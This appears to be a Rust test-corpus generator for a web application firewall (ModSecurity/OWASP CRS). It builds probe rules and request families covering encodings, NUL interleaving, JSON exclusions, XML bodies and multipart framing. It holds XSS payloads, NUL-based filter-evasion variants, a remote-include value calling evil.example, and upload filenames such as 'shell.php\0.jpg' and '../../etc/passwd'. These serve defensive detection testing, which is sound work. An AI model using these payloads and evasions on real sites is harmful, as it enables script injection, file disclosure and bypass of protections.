//! The corpus families that pin one behaviour each, generated over the attack and benign
//! values of the main corpus or over whole code-point and byte ranges:
//! - `probe-*`: every BMP code point through `t:urlDecodeUni` (`%uHHHH`) and through
//!   `t:utf8toUnicode,t:urlDecodeUni` (its UTF-8 bytes), and every two-byte and a grid of
//!   three- and four-byte sequences (valid, overlong, invalid) through `t:utf8toUnicode`.
//!   64 values a request, each read back by a probe rule ([`probe_rules`]) that logs the
//!   transformed value hex-encoded, so the test compares the bytes, not only rule ids.
//! - `nul-interleave/`: NUL bytes around the characters of every value, in five patterns
//!   and five places.
//! - `cssnul/`: XSS payloads behind a NUL that a decoder before `t:cssDecode` produces.
//! - `json-excluded/`: JSON shapes sent where an exclusion ([`exclusion_rules`]) names
//!   their arguments by ModSecurity's JSON names (`json.items.array_1`).
//! - `xml-body/`: payloads in XML comments and processing instructions, which only
//!   `REQUEST_BODY` carries.
//! - `uri-escape/`: `\uHHHH` escapes in the path and the query (REQUEST_URI decoded).
//! - `multipart-shape/`, `multipart-bin/`, `multipart-filename/`: framing (preamble,
//!   LF-only lines, epilogue), binary contents with bare LF and CR, filenames with NUL
//!   and control bytes.
use super::{Bytes, json_string, pct_all, pct_min, request};

/// Values a probe request carries, one per probe rule of a kind.
pub const PROBES: usize = 64;

/// The kinds of probe: the argument prefix, the first rule id, the transformations.
pub const PROBE_KINDS: &[(&str, u32, &str)] = &[
    ("u", 88_000, "t:urlDecodeUni"),
    ("v", 88_100, "t:utf8toUnicode,t:urlDecodeUni"),
    ("w", 88_200, "t:utf8toUnicode"),
];

/// Rule ids of the probe rules, whose logged data the test compares.
pub fn is_probe(id: u32) -> bool {
    PROBE_KINDS
        .iter()
        .any(|(_, base, _)| (*base..*base + PROBES as u32).contains(&id))
}

/// Phase-1 rules, loaded before CRS on both sides, that log each probe argument after
/// its transformations, hex-encoded (`logdata` is compared).
pub fn probe_rules() -> String {
    let mut out = String::new();
    for (prefix, base, t) in PROBE_KINDS {
        for i in 0..PROBES {
            out.push_str(&format!(
                "SecRule ARGS_GET:{prefix}{i:02} \"@rx ^(.*)$\" \"id:{},phase:1,pass,log,capture,t:none,{t},t:hexEncode,msg:'probe',logdata:'%{{TX.1}}'\"\n",
                base + i as u32
            ));
        }
    }
    out
}

/// JSON argument names an exclusion removes from every CRS rule under `/excluded/`,
/// spelled as libmodsecurity3 3.0.9 names them.
const EXCLUDED_JSON_NAMES: &[&str] = &[
    "json.q",
    "json.a.b.q",
    "json.items.array_1",
    "json.items.array_0.q",
    "json.array_0",
    "json.array_1",
    "json.m.array_0.array_0",
];

/// The exclusion both sides load before CRS for the `json-excluded/` family.
pub fn exclusion_rules() -> String {
    let ctl: Vec<String> = EXCLUDED_JSON_NAMES
        .iter()
        .map(|n| format!("ctl:ruleRemoveTargetByTag=OWASP_CRS;ARGS:{n}"))
        .collect();
    format!(
        "SecRule REQUEST_FILENAME \"@beginsWith /excluded/\" \"id:88900,phase:1,pass,nolog,t:none,{}\"\n",
        ctl.join(",")
    )
}

fn probe_request(kind: &str, name: String, values: &[Vec<u8>]) -> (String, Vec<u8>) {
    let q: Vec<String> = values
        .iter()
        .enumerate()
        .map(|(i, v)| {
            format!(
                "{kind}{i:02}={}",
                v.iter().map(|b| format!("%{b:02x}")).collect::<String>()
            )
        })
        .collect();
    (
        name,
        request("GET", &format!("/probe?{}", q.join("&")), &[], b""),
    )
}

fn utf8_bytes(cp: u32) -> Vec<u8> {
    // Surrogates have no `char`; write their three-byte form by hand (CESU-8).
    match char::from_u32(cp) {
        Some(c) => c.to_string().into_bytes(),
        None => vec![
            0xe0 | (cp >> 12) as u8,
            0x80 | ((cp >> 6) & 0x3f) as u8,
            0x80 | (cp & 0x3f) as u8,
        ],
    }
}

fn probes(push: &mut dyn FnMut(String, Vec<u8>)) {
    // Every BMP code point as `%uHHHH` and as UTF-8.
    for start in (0x80u32..0x1_0000).step_by(PROBES) {
        let cps: Vec<u32> = (start..(start + PROBES as u32).min(0x1_0000)).collect();
        let pct_u: Vec<Vec<u8>> = cps
            .iter()
            .map(|cp| format!("%u{cp:04x}").into_bytes())
            .collect();
        let (n, r) = probe_request("u", format!("probe-u/{start:04x}"), &pct_u);
        push(n, r);
        let utf8: Vec<Vec<u8>> = cps.iter().map(|&cp| utf8_bytes(cp)).collect();
        let (n, r) = probe_request("v", format!("probe-utf8/{start:04x}"), &utf8);
        push(n, r);
    }
    // Byte sequences through utf8toUnicode alone: every lead byte 0x80-0xff with every
    // second byte, then three- and four-byte grids, then lone leads at the end.
    let mut seqs: Vec<Vec<u8>> = Vec::new();
    for lead in 0x80u8..=0xff {
        for second in 0u8..=0xff {
            seqs.push(vec![b'a', lead, second, b'/']);
        }
    }
    for lead in 0xe0u8..=0xef {
        for b2 in [0x2f, 0x80, 0x9f, 0xa0, 0xbf, 0xc0] {
            for b3 in [0x2f, 0x80, 0xaf, 0xbf, 0xc0] {
                seqs.push(vec![lead, b2, b3, b'.']);
            }
        }
    }
    for lead in 0xf0u8..=0xff {
        for b2 in [0x80, 0x8f, 0x90, 0xbf] {
            for b3 in [0x80, 0xbf, 0x2f] {
                for b4 in [0x80, 0xaf, 0x2f] {
                    seqs.push(vec![lead, b2, b3, b4, b'.']);
                }
            }
        }
    }
    for lead in 0x80u8..=0xff {
        seqs.push(vec![b'x', lead]);
    }
    for (k, chunk) in seqs.chunks(PROBES).enumerate() {
        let (n, r) = probe_request("w", format!("probe-bytes/{k:03}"), chunk);
        push(n, r);
    }
}

/// NUL placements in a value (already decoded: the caller encodes).
const NUL_PATTERNS: &[&str] = &["after-each", "before-each", "double", "after-punct", "lead"];

fn nul_pattern(value: &str, pattern: &str) -> Vec<u8> {
    let mut out = Vec::new();
    if pattern == "lead" {
        out.push(0);
    }
    for c in value.chars() {
        let mut buf = [0u8; 4];
        let bytes = c.encode_utf8(&mut buf).as_bytes();
        if pattern == "before-each" {
            out.push(0);
        }
        out.extend_from_slice(bytes);
        match pattern {
            "after-each" => out.push(0),
            "double" => out.extend_from_slice(&[0, 0]),
            "after-punct" if c.is_ascii_punctuation() => out.push(0),
            _ => {}
        }
    }
    out
}

fn form(target: &str, body: &[u8]) -> Vec<u8> {
    request(
        "POST",
        target,
        &[(
            "Content-Type",
            "application/x-www-form-urlencoded".to_string(),
        )],
        body,
    )
}

fn json(target: &str, body: &str) -> Vec<u8> {
    request(
        "POST",
        target,
        &[("Content-Type", "application/json".to_string())],
        body.as_bytes(),
    )
}

fn nul_interleave(push: &mut dyn FnMut(String, Vec<u8>), values: &[(&str, &str, &str)]) {
    for (kind, name, value) in values {
        for pattern in NUL_PATTERNS {
            let v = nul_pattern(value, pattern);
            let e = pct_min(&v);
            let base = format!("{kind}/{name}/{pattern}");
            push(
                format!("nul-interleave/query/{base}"),
                request("GET", &format!("/search?q={e}&page=1"), &[], b""),
            );
            push(
                format!("nul-interleave/argname/{base}"),
                request("GET", &format!("/search?{e}=1"), &[], b""),
            );
            push(
                format!("nul-interleave/form/{base}"),
                form("/submit", format!("q={e}&x=1").as_bytes()),
            );
            push(
                format!("nul-interleave/cookie/{base}"),
                request(
                    "GET",
                    "/",
                    &[("Cookie", format!("session=abc; pref={e}"))],
                    b"",
                ),
            );
            let j = json_string(&String::from_utf8_lossy(&v));
            push(
                format!("nul-interleave/json/{base}"),
                json("/api", &format!("{{\"q\":{j}}}")),
            );
        }
    }
}

const XSS: &[(&str, &str)] = &[
    ("script", "<script>alert(1)</script>"),
    ("img", "<img src=x onerror=alert(1)>"),
    ("svg", "<svg onload=alert(1)>"),
    ("iframe", "<iframe src=\"javascript:alert(1)\"></iframe>"),
    ("body", "<body onload=alert(document.domain)>"),
    ("anchor", "<a href=\"javascript:alert(1)\">x</a>"),
    (
        "style",
        "<div style=\"background:url(javascript:alert(1))\">",
    ),
    ("js-uri", "javascript:alert(document.cookie)"),
];

/// Text that a decoder in CRS's XSS chains (`t:urlDecodeUni`, `t:htmlEntityDecode`,
/// `t:jsDecode`) turns into a NUL before `t:cssDecode` runs.
const NUL_PRODUCERS: &[(&str, &str)] = &[
    ("pct00", "%00"),
    ("entity-dec", "&#0;"),
    ("entity-hex", "&#x0;"),
    ("entity-dec2", "&#00;"),
    ("js-octal", "\\0"),
    ("js-octal3", "\\000"),
    ("js-hex", "\\x00"),
    ("js-u", "\\u0000"),
];

fn css_nul(push: &mut dyn FnMut(String, Vec<u8>)) {
    for (xname, xss) in XSS {
        for (pname, nul) in NUL_PRODUCERS {
            for position in ["prefix", "infix", "suffix"] {
                let v = match position {
                    "prefix" => format!("a{nul}{xss}"),
                    "infix" => format!("{}{nul}{}", &xss[..1], &xss[1..]),
                    _ => format!("{xss}{nul}"),
                };
                let e = pct_all(v.as_bytes());
                let base = format!("{xname}/{pname}/{position}");
                push(
                    format!("cssnul/query/{base}"),
                    request("GET", &format!("/?q={e}"), &[], b""),
                );
                push(
                    format!("cssnul/form/{base}"),
                    form("/submit", format!("q={e}").as_bytes()),
                );
                push(
                    format!("cssnul/json/{base}"),
                    json("/api", &format!("{{\"q\":{}}}", json_string(&v))),
                );
            }
        }
    }
}

fn json_excluded(push: &mut dyn FnMut(String, Vec<u8>), values: &[(&str, &str, &str)]) {
    for (kind, name, value) in values {
        let j = json_string(value);
        for (shape, body) in [
            ("flat", format!("{{\"q\":{j},\"k\":\"ok\"}}")),
            ("nested", format!("{{\"a\":{{\"b\":{{\"q\":{j}}}}}}}")),
            ("array", format!("{{\"items\":[1,{j},true]}}")),
            (
                "array-of-objects",
                format!("{{\"items\":[{{\"q\":{j}}},{{\"q\":\"x\"}}]}}"),
            ),
            ("top-array", format!("[{j},{j}]")),
            ("nested-array", format!("{{\"m\":[[{j}],[[\"x\"]]]}}")),
            // Not excluded: the third element, and a sibling of an excluded name.
            ("array-other", format!("{{\"items\":[1,2,{j}]}}")),
            ("sibling", format!("{{\"q\":\"ok\",\"r\":{j}}}")),
        ] {
            push(
                format!("json-excluded/{shape}/{kind}/{name}"),
                json(&format!("/excluded/{shape}"), &body),
            );
        }
    }
}

fn xml_body(push: &mut dyn FnMut(String, Vec<u8>), values: &[(&str, &str, &str)]) {
    let extra: &[(&str, &str, &str)] = &[
        ("attack", "smuggle", "GET /admin HTTP/1.1"),
        (
            "attack",
            "include",
            "include(http://evil.example/x)=http://a",
        ),
        ("attack", "django", "__proto__contains\":1"),
    ];
    for (kind, name, value) in values.iter().chain(extra) {
        let comment = value.replace("--", "");
        let pi = value.replace("?>", "");
        for (shape, body) in [
            (
                "comment",
                format!("<?xml version=\"1.0\"?><r><!-- {comment} --><q>ok</q></r>"),
            ),
            ("pi", format!("<r><?app {pi}?><q>ok</q></r>")),
            ("comment-before-root", format!("<!--{comment}--><r>ok</r>")),
        ] {
            push(
                format!("xml-body/{shape}/{kind}/{name}"),
                request(
                    "POST",
                    "/api",
                    &[("Content-Type", "text/xml".to_string())],
                    body.as_bytes(),
                ),
            );
        }
    }
}

fn uri_escape(push: &mut dyn FnMut(String, Vec<u8>), values: &[(&str, &str, &str)]) {
    for (kind, name, value) in values {
        let esc: String = value
            .chars()
            .map(|c| {
                if c.is_ascii_alphanumeric() {
                    c.to_string()
                } else {
                    format!("%5Cu{:04x}", c as u32 & 0xffff)
                }
            })
            .collect();
        push(
            format!("uri-escape/path/{kind}/{name}"),
            request("GET", &format!("/x/{esc}"), &[], b""),
        );
        push(
            format!("uri-escape/query/{kind}/{name}"),
            request("GET", &format!("/x?q={esc}"), &[], b""),
        );
    }
}

const BOUNDARY: &str = "----palisadeShape";

fn multipart(target: &str, body: &[u8]) -> Vec<u8> {
    request(
        "POST",
        target,
        &[(
            "Content-Type",
            format!("multipart/form-data; boundary={BOUNDARY}"),
        )],
        body,
    )
}

fn multipart_shapes(push: &mut dyn FnMut(String, Vec<u8>)) {
    let values = [
        ("benign", "holiday photos"),
        ("xss", "<script>alert(1)</script>"),
    ];
    let eols = [("crlf", "\r\n"), ("lf", "\n")];
    let preambles = [
        ("none", ""),
        ("crlf", "\r\n"),
        ("lf", "\n"),
        ("text", "preamble\r\n"),
        ("two-crlf", "\r\n\r\n"),
    ];
    let epilogues = [("none", ""), ("crlf", "\r\n"), ("text", "\r\nbye")];
    for (pre_n, pre) in preambles {
        for (b_n, after_boundary) in eols {
            for (h_n, after_headers) in eols {
                for (e_n, before_next) in eols {
                    for (epi_n, epi) in epilogues {
                        for (part, disposition) in [
                            ("field", "form-data; name=\"q\""),
                            ("file", "form-data; name=\"f\"; filename=\"a.txt\""),
                        ] {
                            for (vn, v) in values {
                                let body = format!(
                                    "{pre}--{BOUNDARY}{after_boundary}Content-Disposition: {disposition}{after_headers}{after_headers}{v}{before_next}--{BOUNDARY}--{epi}"
                                );
                                push(
                                    format!(
                                        "multipart-shape/{pre_n}/{b_n}-{h_n}-{e_n}/{epi_n}/{part}/{vn}"
                                    ),
                                    multipart("/upload", body.as_bytes()),
                                );
                            }
                        }
                    }
                }
            }
        }
    }
}

fn multipart_binary(push: &mut dyn FnMut(String, Vec<u8>)) {
    let mut rng = Bytes(0x2545_f491_4f6c_dd1d);
    for size in [1usize, 2, 3, 10, 100, 1000, 5000, 20_000] {
        for pattern in [
            "random",
            "lf-every-10",
            "cr-every-10",
            "lf-at-end",
            "cr-at-end",
            "crlf-dashes",
            "lf-boundary",
            "unix-text",
        ] {
            let mut data = rng.take(size);
            match pattern {
                "lf-every-10" => data.iter_mut().step_by(10).for_each(|b| *b = b'\n'),
                "cr-every-10" => data.iter_mut().step_by(10).for_each(|b| *b = b'\r'),
                "lf-at-end" => data.push(b'\n'),
                "cr-at-end" => data.push(b'\r'),
                "crlf-dashes" => data.extend_from_slice(b"\r\n--not-the-boundary\r\n"),
                // A line inside the content that starts like the boundary, after a bare LF.
                "lf-boundary" => data.extend_from_slice(format!("\n--{BOUNDARY}x\n").as_bytes()),
                "unix-text" => {
                    data = (0..size)
                        .map(|i| {
                            if i % 17 == 16 {
                                b'\n'
                            } else {
                                b'a' + (i % 26) as u8
                            }
                        })
                        .collect()
                }
                _ => {}
            }
            for ct in ["application/octet-stream", "text/plain"] {
                let mut body = format!(
                    "--{BOUNDARY}\r\nContent-Disposition: form-data; name=\"title\"\r\n\r\nmy upload\r\n--{BOUNDARY}\r\nContent-Disposition: form-data; name=\"file\"; filename=\"data.bin\"\r\nContent-Type: {ct}\r\n\r\n"
                )
                .into_bytes();
                body.extend_from_slice(&data);
                body.extend_from_slice(format!("\r\n--{BOUNDARY}--\r\n").as_bytes());
                let ct_n = ct.split('/').nth(1).unwrap_or(ct);
                push(
                    format!("multipart-bin/{pattern}/{ct_n}/{size}"),
                    multipart("/upload", &body),
                );
            }
        }
    }
}

fn multipart_filenames(push: &mut dyn FnMut(String, Vec<u8>)) {
    let names: &[(&str, &[u8])] = &[
        ("nul-middle", b"shell.php\0.jpg"),
        ("nul-start", b"\0a.jpg"),
        ("nul-end", b"a.jpg\0"),
        ("pct00-text", b"shell.php%00.jpg"),
        ("ctl-01", b"a\x01b.jpg"),
        ("ctl-1f", b"a\x1fb.jpg"),
        ("del", b"a\x7fb.jpg"),
        ("tab", b"a\tb.jpg"),
        ("escaped-quote", b"a\\\"b.jpg"),
        ("backslash-path", b"C:\\Users\\me\\a.jpg"),
        ("traversal", b"../../etc/passwd"),
        ("php", b"shell.php"),
        ("utf8", "caf\u{e9}.png".as_bytes()),
        ("latin1", b"caf\xe9.png"),
        ("empty", b""),
        ("semicolon", b"a;b.jpg"),
    ];
    for (name, fname) in names {
        for star in ["plain", "with-star"] {
            let mut body =
                format!("--{BOUNDARY}\r\nContent-Disposition: form-data; name=\"f\"; filename=\"")
                    .into_bytes();
            body.extend_from_slice(fname);
            body.push(b'"');
            if star == "with-star" {
                body.extend_from_slice(b"; filename*=UTF-8''");
                body.extend_from_slice(pct_all(fname).as_bytes());
            }
            body.extend_from_slice(
                format!(
                    "\r\nContent-Type: application/octet-stream\r\n\r\nxyz\r\n--{BOUNDARY}--\r\n"
                )
                .as_bytes(),
            );
            push(
                format!("multipart-filename/{name}/{star}"),
                multipart("/upload", &body),
            );
        }
    }
}

/// Appends every family to the corpus.
pub fn families(push: &mut dyn FnMut(String, Vec<u8>), values: &[(&str, &str, &str)]) {
    probes(push);
    nul_interleave(push, values);
    css_nul(push);
    json_excluded(push, values);
    xml_body(push, values);
    uri_escape(push, values);
    multipart_shapes(push);
    multipart_binary(push);
    multipart_filenames(push);
}
